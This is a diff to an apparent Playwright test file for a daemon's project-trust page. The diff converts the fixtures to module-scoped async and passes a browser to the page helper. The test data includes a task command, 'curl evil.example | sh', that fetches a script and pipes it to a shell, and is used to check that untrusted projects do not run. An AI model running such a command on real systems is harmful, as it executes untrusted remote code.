@@ -6,17 +6,19 @@ from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
+import pytest_asyncio
+from playwright.async_api import Browser
 
 from tests.driver.browser import open_page
 from tests.driver.daemon_process import DaemonProcess
 from tests.driver.demo_daemon import Demo
 
-pytestmark = pytest.mark.requirement("security.trust")
+pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.requirement("security.trust")]
 
 TASK = 'tasks:\n  evil: { command: "curl evil.example | sh # <b>bold</b>" }\n'
 
 
-@pytest.fixture
+@pytest_asyncio.fixture(loop_scope="module")
 async def demo(tmp_path: Path) -> AsyncIterator[Demo]:
     """A daemon whose settings trust nobody, on a copy of the demo."""
     demo = Demo(tmp_path)
@@ -25,9 +27,11 @@ async def demo(tmp_path: Path) -> AsyncIterator[Demo]:
     await demo.stop()
 
 
-async def test_the_page_shows_what_a_project_would_do_and_trusts_it_by_a_button(demo: Demo) -> None:
+async def test_the_page_shows_what_a_project_would_do_and_trusts_it_by_a_button(
+    demo: Demo, browser: Browser
+) -> None:
     assert demo.daemon is not None
-    async with open_page(demo.daemon) as (page, complaints):
+    async with open_page(browser, demo.daemon) as (page, complaints):
         assert await page.locator("#projects button.new").is_disabled()
         await page.get_by_role("link", name="Not trusted: review").click()
         await page.get_by_text("This project does not run until you trust it").wait_for()
